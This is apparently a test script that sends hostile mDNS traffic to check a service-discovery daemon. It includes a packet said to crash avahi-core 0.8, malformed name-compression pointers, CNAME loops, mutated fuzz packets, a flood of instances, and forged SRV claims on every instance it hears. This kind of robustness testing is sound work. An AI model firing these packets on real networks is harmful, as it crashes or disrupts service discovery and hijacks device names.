#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Multicasts what a hostile stranger might: hostile_mdns.py packets|rubbish|flood|conflicts|all, from the interface eth0 of a
network namespace. Bounded: each kind ends within half a minute."""

import random
import select
import socket
import struct
import sys
import time

GROUP = ("224.0.0.251", 5353)
SERVICE = "_disposable._tcp.local"
PTR, TXT, CNAME, A, SRV, ANY = 12, 16, 5, 1, 33, 255


def name(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"


def record(owner, kind, ttl, data, group=0x8001):
    return name(owner) + struct.pack(">HHIH", kind, group, ttl, len(data)) + data


def response(*records):
    return struct.pack(">6H", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def service(port, host):
    return struct.pack(">HHH", 0, 0, port) + name(host)


def instance(label, host, *more, ttl=120):
    """An instance and what is said of its host."""
    full = f"{label}.{SERVICE}"
    return response(record(SERVICE, PTR, 4500, name(full), 1), record(full, SRV, ttl, service(9999, host)),
                    record(full, TXT, 4500, b"\x03v=1"), *more)


def packets():
    """The packet of 223 bytes at which avahi-core 0.8 aborts when the A record expires, and its relatives."""
    alias = record("eh2.local", CNAME, 120, name("xx.local"))
    fatal = instance("e2", "eh2.local", alias, record("xx.local", A, 1, bytes([10, 77, 0, 9])))
    assert len(fatal) == 223
    yield fatal
    for ttl in (0, 1, 2, 0xFFFFFFFF):
        yield instance("e3", "eh3.local", record("eh3.local", A, ttl, bytes([10, 77, 0, 9])), ttl=ttl)
        yield instance("e4", "c0.local", *(record(f"c{i}.local", CNAME, ttl, name(f"c{i + 1}.local")) for i in range(20)),
                       record("c20.local", A, ttl, bytes([10, 77, 0, 9])))
    yield instance("e5", "l0.local", record("l0.local", CNAME, 1, name("l1.local")),
                   record("l1.local", CNAME, 1, name("l0.local")))
    yield instance("e6", f"e6.{SERVICE}")
    yield response(record(SERVICE, PTR, 4500, name(SERVICE), 1))
    yield response(record(f"e7.{SERVICE}", CNAME, 1, name(f"e8.{SERVICE}")), record(SERVICE, CNAME, 1, name("x.local")))
    # Names that point to themselves, to each other, forwards, and beyond the end.
    head = struct.pack(">6H", 0, 0x8400, 0, 1, 0, 0)
    for body in (b"\xc0\x0c", b"\x01a\xc0\x0c", b"\xc0\x0e\xc0\x0c", b"\xc0\xff", b"\x3f", b"\xff\xff", b"\x80\0"):
        yield head + body + struct.pack(">HHIH", PTR, 1, 120, 2) + b"\xc0\x0c"
        yield struct.pack(">6H", 0, 0, 1, 0, 0, 0) + body + struct.pack(">HH", PTR, 1)
    yield struct.pack(">6H", 0, 0x8400, 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFF)
    # Names of several hundred bytes, each a label and a pointer to the one before.
    chain, last = struct.pack(">6H", 0, 0x8400, 200, 0, 0, 0) + b"\x01a\0" + struct.pack(">HH", PTR, 1), 12
    for _ in range(199):
        start = len(chain)
        chain += b"\x01a" + struct.pack(">H", 0xC000 | last) + struct.pack(">HH", PTR, 1)
        last = start
    yield chain


def rubbish():
    choice = random.Random(1)
    samples = list(packets())
    for _ in range(2000):
        packet = bytearray(choice.choice(samples))
        for _ in range(choice.randint(1, 8)):
            packet[choice.randrange(len(packet))] = choice.randrange(256)
        yield bytes(packet)


def flood():
    """Thousands of instances, and questions for everything."""
    for number in range(5000):
        yield instance(f"f{number}", f"fh{number}.local",
                       record(f"fh{number}.local", A, 120, bytes([10, 77, 1, number % 250])))
        yield struct.pack(">6H", 0, 0, 1, 0, 0, 0) + name(SERVICE) + struct.pack(">HH", PTR, 0x8001)


def open_socket():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
        sock.setsockopt(socket.SOL_SOCKET, option, 1)
    sock.bind(("", 5353))
    index = struct.pack("=4s4si", socket.inet_aton(GROUP[0]), bytes(4), socket.if_nametoindex("eth0"))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, index)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, index)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    return sock


def read_name(packet, place):
    """A name of a well-formed packet, uncompressed, and where it ends."""
    labels, end = b"", None
    while packet[place]:
        if packet[place] >= 0xC0:
            end = end or place + 2
            place = struct.unpack_from(">H", packet, place)[0] & 0x3FFF
        else:
            labels += packet[place:place + 1 + packet[place]]
            place += 1 + packet[place]
    return labels + b"\0", end or place + 1


def instances(packet):
    """The instances' names in the answers of a response."""
    _, flags, questions, answers, _, _ = struct.unpack_from(">6H", packet)
    if questions or not flags & 0x8000:
        return
    place = 12
    for _ in range(answers):
        owner, place = read_name(packet, place)
        kind, _, _, size = struct.unpack_from(">HHIH", packet, place)
        if kind == PTR and owner == name(SERVICE):
            yield read_name(packet, place + 10)[0]
        elif kind == SRV:
            yield owner
        place += 10 + size


def conflicts(sock):
    """Claims every instance that is heard, sixteen times a second for 20 seconds."""
    known, end = set(), time.monotonic() + 20
    question = struct.pack(">6H", 0, 0, 1, 0, 0, 0) + name(SERVICE) + struct.pack(">HH", PTR, 1)
    while time.monotonic() < end:
        sock.sendto(question, GROUP)
        pause = time.monotonic() + 1 / 16
        while select.select([sock], [], [], max(0, pause - time.monotonic()))[0]:
            packet, (address, _) = sock.recvfrom(9000)
            if address != "10.77.0.3":
                known.update(instances(packet))
        for full in known:
            data = service(666, "stranger.local")
            claim = full + struct.pack(">HHIH", SRV, 0x8001, 120, len(data)) + data
            sock.sendto(struct.pack(">6H", 0, 0x8400, 0, 1, 0, 0) + claim, GROUP)
    print(f"{len(known)} names were claimed")
    if not known:
        sys.exit("no instance was heard")


def main():
    kind = sys.argv[1]
    sock = open_socket()
    # So many at once, and then a hundredth of a second of rest.
    for each, burst in ((packets, 1), (rubbish, 10), (flood, 50)):
        if kind in (each.__name__, "all"):
            for number, packet in enumerate(each()):
                sock.sendto(packet, GROUP)
                if number % burst == 0:
                    time.sleep(0.01)
    if kind == "conflicts":
        conflicts(sock)
    # What was said for a second or two has expired by then.
    time.sleep(4)


if __name__ == "__main__":
    main()
